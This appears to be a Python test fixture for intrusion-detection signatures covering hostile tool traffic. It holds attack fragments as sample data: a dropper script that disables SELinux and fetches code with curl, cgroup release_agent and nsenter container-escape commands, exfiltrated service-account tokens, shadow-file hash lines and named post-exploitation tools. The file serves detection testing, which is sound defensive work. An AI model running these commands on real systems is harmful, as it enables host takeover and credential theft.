"""Cases of signatures/packs/tools.rules."""
import base64

from case import Case
from talks import c, http, s, tcp

ELF = b"\x7fELF\2\1\1" + bytes(9) + b"\2\0\x3e\0" + bytes(60)
ELF_ARM = b"\x7fELF\1\1\1" + bytes(9) + b"\3\0\x28\0" + bytes(60)
CURL, WGET = [("User-Agent", "curl/8.5.0")], [("user-agent", "wget/1.21")]
BARE, BARE_V6 = "198.51.100.7", "[2001:db8::7]"
DROPPER = "#!/bin/bash\nsetenforce 0\nchattr -i /etc/ld.so.preload\npkill -f kinsing\ncurl -s http://h/x\n"


def encode(text):
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


def token(subject, lead="", head='{"alg":"RS256","kid":"'):
    return f"{encode(head + 'k1' + chr(34) + '}')}.{encode('{' + lead + chr(34) + 'sub' + chr(34) + ':' + chr(34) + subject + chr(34) + '}')}.c2ln"


def bearer(value, name="Authorization"):
    return [(name, "Bearer " + value)]


ACCOUNT = "system:serviceaccount:default:web"

CASES = {
    6100901: Case(http(uri="/a", headers=CURL, host=BARE, reply=ELF), http(uri="/b.png", headers=WGET, host=BARE_V6, reply=ELF_ARM, zipped=True, port=8081),
                  http(uri="/a", headers=CURL, host="packages.example.org", reply=ELF), "answer compressed, named as an image, IPv6, another tool"),
    6100902: Case(http(uri="/a.sh", headers=CURL, host=BARE, reply="#!/bin/bash\necho\n"), http(uri="/c", headers=WGET, host=BARE, reply="#!/usr/bin/env sh\nid\n", zipped=True, port=8000, v6=True),
                  http(uri="/a.sh", headers=CURL, host=BARE, reply="#!/opt/app/run\n"), "answer compressed, another shell, IPv6"),
    6100903: Case(tcp(c(ELF), port=9001), tcp(s(ELF_ARM), port=443, v6=True), tcp(c(b"file: \x7fELF header\n"), port=9001), "from the server, another machine, port 443"),
    6100904: Case(http(uri="/i.sh", reply=DROPPER), http(uri="/x", zipped=True, port=8080, reply="#!/bin/sh\ncrontab -r\nrm -f /tmp/kdevtmpfsi\n"),
                  http(uri="/setup.sh", reply="#!/bin/sh\napt-get update\ncrontab -l > /backup/cron\n"), "answer compressed, other commands"),
    6100905: Case(http(uri="/cdk_linux_amd64", headers=CURL), http(uri="/x/%6cinpeas.sh", port=8080, cut=3), http(uri="/docs/kubeletctl.html"), "escape, another tool, other port"),
    6100906: Case(http(uri="/", headers=[("User-Agent", "sqlmap/1.8#stable (https://sqlmap.org)")]), http(uri="/", headers=[("user-AGENT", "Mozilla/5.0 (NIKTO/2.5)")], h2=True, port=8443),
                  http(uri="/", headers=[("User-Agent", "nucleic-app/1.0")]), "HTTP/2, mixed case, behind a browser's name"),
    6100907: Case(tcp(s("echo 1 > /tmp/cg/x/notify_on_release; echo /cmd > /tmp/cg/release_agent\n"), port=4444),
                  http("POST", "/x", (), "c=mount -o remount; echo x>/c/release_agent; echo 1>/c/notify_on_release", cut=9, reorder=True), tcp(s("cat /sys/fs/cgroup/notify_on_release\n"), port=4444),
                  "other order, in a form, segments out of order"),
    6100908: Case(tcp(s("nsenter -t 1 -m -u -n sh\n"), port=4444), tcp(s("nsenter --mount --target=1 -- bash\n"), port=443, v6=True), tcp(s("nsenter -t 4711 -n ip address\n"), port=4444), "long options, port 443, IPv6"),
    6100909: Case(http(uri="/api/v1/pods", headers=bearer(token(ACCOUNT)), port=8001), http(uri="/x", headers=bearer(token(ACCOUNT, '"a":1,'), "authorization"), h2=True, port=8080),
                  http(uri="/api", headers=bearer(token("user:anna", head='{"alg":"RS256","typ":"')), port=8001), "HTTP/2, shifted by a byte"),
    6100910: Case(http("POST", "/c", (), "t=" + token(ACCOUNT)), tcp(c("tok " + token(ACCOUNT, '"ab":1,') + "\n"), port=4444, cut=10, reorder=True), http("POST", "/login", (), "t=" + token("user:anna")),
                  "no HTTP, shifted by two bytes, segments out of order"),
    6100911: Case(tcp(c("root:$6$abcdefgh$QWERTYUIOP:19000:0:99999:7:::\n"), port=4444), tcp(s("x\nroot:$y$j9T$abcdefghij:19500:0:\n"), port=80, v6=True), tcp(c("root:*:19000:0:99999:7:::\n"), port=4444),
                  "from the server, a newer hash, IPv6"),
}
